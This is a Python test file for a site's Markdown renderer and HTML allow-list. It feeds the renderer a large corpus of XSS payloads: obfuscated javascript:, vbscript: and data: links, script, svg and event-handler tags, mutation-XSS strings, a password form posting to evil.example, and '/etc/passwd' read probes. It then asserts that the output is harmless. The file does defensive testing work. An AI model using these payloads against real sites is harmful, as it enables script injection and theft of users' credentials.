"""Hostile texts, and what a browser would be given of them."""

import re
from collections.abc import Callable
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pygments.token import STANDARD_TYPES

from portal.errors import Invalid
from portal.markup import Rendered, Term, render, render_contributed, render_inline
from portal.markup.sanitise import sanitise

# Written down a second time on purpose: who widens the allow-list has to say so here too.
TAGS_ALLOWED = {
    *("abbr", "blockquote", "br", "code", "dd", "div", "dl", "dt", "em", "figcaption", "figure", "hr", "label"),
    *("li", "ol", "p", "pre", "span", "strong", "sup", "table", "tbody", "td", "th", "thead", "tr", "ul"),
    *("a", "h2", "h3", "h4", "h5", "h6", "img", "input"),
}
ATTRIBUTES = {
    "a": {"href", "title", "aria-label", "rel", "class"},
    "abbr": {"title"},
    "div": {"class", "data-language", "aria-label", "role", "tabindex"},
    "figure": {"class"},
    **{f"h{level}": {"id"} for level in range(2, 7)},
    "img": {"src", "alt", "title", "width", "height", "loading"},
    "input": {"type", "disabled", "checked"},
    "li": {"id", "class"},
    "ol": {"start"},
    "p": {"class"},
    "pre": {"tabindex"},
    "span": {"class"},
    "sup": {"id"},
    "td": {"class"},
    "th": {"class", "scope"},
    "ul": {"class"},
}
CLASSES = {
    *("footnote-ref", "footnote-backref", "heading-anchor", "term", "callout", "callout-note", "callout-tip"),
    *("callout-warning", "code", "footnotes", "heading", "table", "figure", "task", "tasks", "callout-title"),
    *("code-language", "broken-link", "align-left", "align-center", "align-right", *STANDARD_TYPES.values()),
}
VOID = {"br", "hr", "img", "input"}
OWN_RELATIONS = {"external noopener", "external noopener nofollow ugc"}
SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):")


class Inspector(HTMLParser):
    """Reads HTML as a browser would and writes down whatever does not belong there."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.text = ""
        self._open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS_ALLOWED:
            self.faults.append(f"tag {tag}")
        for name, value in attrs:
            self._check_attribute(tag, name, value or "")
        if tag == "input" and not {("type", "checkbox"), ("disabled", "")} <= set(attrs):
            self.faults.append(f"input that takes something in: {attrs}")
        if tag not in VOID:
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if not self._open or self._open.pop() != tag:
            self.faults.append(f"end of {tag} out of place")

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"instruction {data}")

    def unknown_decl(self, data: str) -> None:
        self.faults.append(f"section {data}")

    def close(self) -> None:
        super().close()
        self.faults.extend(f"{tag} is never closed" for tag in self._open)

    def _check_attribute(self, tag: str, name: str, value: str) -> None:
        if name not in ATTRIBUTES.get(tag, set()):
            self.faults.append(f"attribute {name} of {tag}")
        elif name in ("href", "src") and not is_harmless(value):
            self.faults.append(f"address {value!r} of {tag}")
        elif name == "class" and not set(value.split()) <= CLASSES:
            self.faults.append(f"class {value} of {tag}")
        elif name == "rel" and value not in OWN_RELATIONS:
            self.faults.append(f"relation {value}")


def is_harmless(address: str) -> bool:
    """Judge an address as a browser reads it: blanks at the ends, tabs, ends of lines go; a backslash is a slash."""
    seen = re.sub(r"[\t\r\n]", "", address.strip("".join(map(chr, range(0x21))))).replace("\\", "/").lower()
    scheme = SCHEME.match(seen)
    if scheme:
        return scheme[1] in ("http", "https", "mailto")
    return not seen.startswith("//")


def inspect(html: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector


def as_written(target: str) -> str:
    """The most careless resolver: all that it is asked about is an address of the site."""
    return target


def render_as_sent(text: str, *, meaning: str = "Hypertext Transfer Protocol") -> Rendered:
    """Render a text in this process as `render_contributed` does in another."""
    return render(text, terms={"HTTP": Term("/glossary#http", meaning)}, id_prefix="note-7-", is_contributed=True)


BLANK_PICTURE = "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"
ADDRESSES = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "jAvAsCrIpT:alert(1)",
    "javascript://example.com/%0aalert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "javascript&#x0000003A;alert(1)",
    "javascript&amp;colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;vascript:alert(1)",
    "&#0000106&#0000097&#0000118&#0000097script:alert(1)",
    "java&#x09;script:alert(1)",
    "java&#x0A;script:alert(1)",
    "java&#x0D;script:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java\tscript:alert(1)",
    "java\x01script:alert(1)",
    "java\x0bscript:alert(1)",
    "java\u00adscript:alert(1)",
    "java\u200bscript:alert(1)",
    "\x01javascript:alert(1)",
    "\x1bjavascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "\ufeffjavascript:alert(1)",
    "&#14;javascript:alert(1)",
    "&nbsp;javascript:alert(1)",
    "java\\script:alert(1)",
    "javascript\\:alert(1)",
    "\\javascript:alert(1)",
    "javascript%3Aalert(1)",
    "java%0ascript:alert(1)",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "vbscript:msgbox(1)",
    "VbScRiPt:msgbox(1)",
    "vb&#x09;script:msgbox(1)",
    "livescript:alert(1)",
    "mocha:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html;base64,PHNjcmlwdD4=",
    "d&#97;ta:text/html,x",
    BLANK_PICTURE,
    "blob:https://example.com/1",
    "file:///etc/passwd",
    "filesystem:https://example.com/x",
    "ftp://example.com/",
    "intent://scan/#Intent;end",
    "jar:https://example.com!/x",
    "about:blank",
    "tel:+441",
    "//evil.example/x",
    "&#47;/evil.example/x",
    "/\t/evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example/x",
    "&bsol;&bsol;evil.example",
    "\t//evil.example/x",
    "\u200b//evil.example/x",
]
WAYS_TO_LINK = {
    "link": "[x]({})",
    "pointed": "[x](<{}>)",
    "titled": '[x]({} "title")',
    "picture": "![x]({})",
    "linked picture": "[![x]({0})]({0})",
    "reference": "[x][r]\n\n[r]: {}",
    "pointed reference": "[r]\n\n[r]: <{}>",
    "picture by reference": "![x][r]\n\n[r]: {} 'title'",
    "autolink": "<{}>",
    "footnote": "x[^1]\n\n[^1]: [x]({})",
    "table": "| [x]({}) | b |\n|---|---|\n| ![x]({}) | d |",
    "heading": "## [x]({})",
    "definition": "[x]({})\n:   [y]({})",
    "callout": '!!! note "[x]({})"\n    [x]({})',
    "task": "- [ ] [x]({})",
}
TAGS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></ScRiPt>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<IMG SRC=`javascript:alert(1)`>",
    "<a href=javascript:alert(1)>x</a>",
    "<a onclick=alert(1)>x</a>",
    "<b onmouseover=alert(1)>x</b>",
    "<p style=background:url(//evil.example)>x</p>",
    "<div class=site-header id=csrf_token name=attributes>x</div>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg></p><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style><!--</style><img src=x onerror=alert(1)>-->",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<form action=//evil.example><input name=password type=password></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select autofocus onfocus=alert(1)><option></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext>",
    "<isindex action=javascript:alert(1) type=image>",
    "<custom-element onclick=alert(1)>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<?php echo 1 ?>",
    "</p></div></body><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "\\<img src=x onerror=alert(1)\\>",
    "<\x00script>alert(1)</script>",
    "<img src=x on\x00error=alert(1)>",
    "\x02wzxhzdk:0\x03<img src=x onerror=alert(1)>",
    "\x02code:99\x03<b>",
    "\ud800<img src=x onerror=alert(1)>",
    "{: onclick=alert(1) style=x }",
    "{onclick=alert(1)}",
    '--8<-- "/etc/passwd"',
    "javascript:alert(1)",
]
# Texts are cleaned of what UTF-8 cannot say; the meanings of abbreviations come out of files that are UTF-8.
ENCODABLE_TAGS = [tag for tag in TAGS if "\ud800" not in tag]
PLACES = {
    "paragraph": "{}",
    "amid words": "before {} after",
    "in bold": "**{}** and *{}*",
    "block": "\n\n{}\n\nafter",
    "title of a link": '[x](/a "{}")',
    "title of a foreign link": "[x](https://a.example '{}')",
    "title of a picture": 'Text ![x](/a.png "{}")',
    "caption": '![x](/a.png "{}")',
    "alternative text": "![{}](/a.png)",
    "alternative text of a lost picture": "![{}](a.png)",
    "text of a link": "[{}](/a)",
    "target of a link": "[x]({})",
    "target of a picture": "![x]({})",
    "reference": "[x][r]\n\n[r]: /a '{}'",
    "name of a reference": "[{}]\n\n[{}]: /a",
    "autolink": "<https://a.example/{}>",
    "code": "`{}`",
    "info of a fence": "```{}\nx\n```",
    "after the language": "~~~python {}\nx = 1\n~~~",
    "fenced code": "```\n{}\n```",
    "highlighted code": "```html\n{}\n```",
    "highlighted template": "```jinja\n{}\n```",
    "code in a list": "- item\n\n  ```\n  {}\n  ```",
    "indented code": "    {}",
    "footnote": "x[^1]\n\n[^1]: {}",
    "name of a footnote": "x[^{}]\n\n[^{}]: y",
    "heading": "## {}",
    "underlined heading": "{}\n====",
    "table": "| {} | b |\n|:--|--|\n| {} | d |",
    "definition": "{}\n:   {}",
    "callout": "!!! note\n    {}",
    "title of a callout": '!!! note "{}"\n    x',
    "kind of a callout": "!!! {}\n    x",
    "list": "- {}\n- [x] {}\n",
    "quotation": "> {}\n{}",
}
LINKS = {
    name: [way.replace("{0}", "{}").replace("{}", address) for address in ADDRESSES]
    for name, way in WAYS_TO_LINK.items()
}
INSERTIONS = {name: [place.replace("{}", tag) for tag in TAGS] for name, place in PLACES.items()}


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<p onclick=x>x</p>",
        "<p style=x>x</p>",
        "<a href='java&#9;script:x'>x</a>",
        "<a href=' &#1;javascript:x'>x</a>",
        "<a href='/\\evil.example'>x</a>",
        "<img src=data:x>",
        "<input type=text disabled>",
        "<input type=checkbox>",
        "<p class=site-header>x</p>",
        "<a rel=opener href=/x>x</a>",
        "<!-- x -->",
        "<!DOCTYPE html>",
        "<?xml?>",
        "<![CDATA[x]]>",
        "<p>x",
        "x</p>",
    ],
)
def test_the_inspector_sees_what_is_wrong(html: str) -> None:
    assert inspect(html).faults


def test_the_corpus_is_large() -> None:
    assert sum(map(len, [*LINKS.values(), *INSERTIONS.values()])) > 3000


@pytest.mark.parametrize("name", WAYS_TO_LINK)
def test_no_way_to_link_leads_to_a_hostile_address(name: str) -> None:
    for text in LINKS[name]:
        assert _faults(text) == [], text


@pytest.mark.parametrize("name", PLACES)
def test_no_place_lets_a_tag_or_an_attribute_through(name: str) -> None:
    for text in INSERTIONS[name]:
        assert _faults(text) == [], text


@pytest.mark.parametrize("tag", ENCODABLE_TAGS)
def test_the_meaning_of_an_abbreviation_is_text(tag: str) -> None:
    html = render("HTTP", terms={"HTTP": Term("/glossary#http", tag)}).html
    assert inspect(html).faults == []
    assert inspect(html).text.strip() == "HTTP"


@pytest.mark.parametrize("text", [*TAGS, *(f"[x]({address})" for address in ADDRESSES)])
def test_a_single_line_is_as_safe_as_a_text(text: str) -> None:
    assert (
        inspect(render_inline(text, resolve=as_written, terms={"alert": Term("/glossary#alert", "<b>")})).faults == []
    )


@pytest.mark.parametrize("address", ["javascript:alert(1)", BLANK_PICTURE, "vbscript:x"])
def test_not_even_the_resolver_brings_in_a_script(address: str) -> None:
    def mislead(target: str) -> str:
        return address

    html = render("[x](a.md) ![y](b.png)", resolve=mislead).html
    assert inspect(html).faults == []
    assert address not in html


@pytest.mark.parametrize("tag", ENCODABLE_TAGS)
def test_the_allow_list_holds_on_its_own(tag: str) -> None:
    assert inspect(sanitise(tag)).faults == []


@pytest.mark.parametrize("source", ["https://evil.example/x.png", "//evil.example/x", "/\\evil.example/x", "x.png"])
def test_the_allow_list_shows_pictures_of_this_site_only(source: str) -> None:
    assert "evil" not in sanitise(f'<img src="{source}" alt="">')
    assert "src" not in sanitise(f'<img src="{source}" alt="">')
    assert sanitise('<img src="/x.png" alt="">') == '<img src="/x.png" alt="">'


def test_the_allow_list_takes_the_content_of_scripts_and_styles_out() -> None:
    assert sanitise("a<script>b</script><style>c</style>d") == "ad"


@pytest.mark.parametrize("tag", [tag for tag in TAGS if tag.startswith("<") and tag.isprintable() and "'" not in tag])
def test_a_tag_is_shown_as_it_was_written(tag: str) -> None:
    assert inspect(render(f"Write `{tag.replace('`', '')}` here").html).text.strip() == (
        f"Write {tag.replace('`', '')} here"
    )


def test_links_that_are_refused_keep_their_words() -> None:
    assert render("[read *this*](javascript:alert(1))").html.strip() == (
        '<p><span class="broken-link">read <em>this</em></span></p>'
    )


def test_pictures_from_elsewhere_become_links() -> None:
    html = render_as_sent("![a <b>](https://other.example/x.png)").html
    assert html.strip() == (
        '<p><a href="https://other.example/x.png" rel="external noopener nofollow ugc">a &lt;b&gt;</a></p>'
    )


FRAGMENTS = st.sampled_from(
    [
        *("[", "]", "(", ")", "<", ">", "!", "!!! note\n", "    ", "\n", "\n\n", "`", "```", "~~~", "|", "|---|---|\n"),
        *("# ", "- ", "1. ", "- [ ] ", "> ", ":   ", "[^1]", "[^1]: ", "[r]: ", "*", "_", "**", "\\", "&", "&#", ";"),
        *("javascript:", "data:", "//", "/a", "onclick=x", "<script>", "<img src=x onerror=x>", '"', "'", "HTTP"),
        *("\t", "\x00", "\x02", "\x03", "\x02code:0\x03", "\x02qq", "\ud800", "\u2028", "é", "x", " "),
    ]
)


@given(st.lists(FRAGMENTS, max_size=25).map("".join))
@settings(max_examples=300, deadline=None)
def test_whatever_is_sent_comes_out_as_harmless_html(text: str) -> None:
    assert _faults(text) == []
    assert inspect(render_inline(text)).faults == []


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>\n\n[x](javascript:alert(1)) ![x](data:text/html,x) <svg onload=alert(1)>",
        "x[^1]\n\n[^1]: <img src=x onerror=alert(1)> [y](java&#9;script:alert(1))",
        "```html <b>\n<script>alert(1)</script>\n```\n\n| <b> | [x](vbscript:x) |\n|---|---|\n| c | d |",
    ],
)
def test_the_process_apart_gives_the_same_safe_html(text: str) -> None:
    rendered = render_contributed(
        text, id_prefix="note-7-", terms={"HTTP": Term("/glossary#http", "Hypertext Transfer Protocol")}
    )
    assert inspect(rendered.html).faults == []
    assert rendered == render_as_sent(text)


def test_a_nul_character_is_refused_before_anything_is_rendered() -> None:
    with pytest.raises(Invalid) as refusal:
        render_contributed("<\x00script>")
    assert refusal.value.field == "body"


def _faults(text: str) -> list[str]:
    outcomes: list[Callable[[str], Rendered]] = [render_as_sent, lambda text: render(text, resolve=as_written)]
    return [fault for outcome in outcomes for fault in inspect(outcome(text).html).faults]
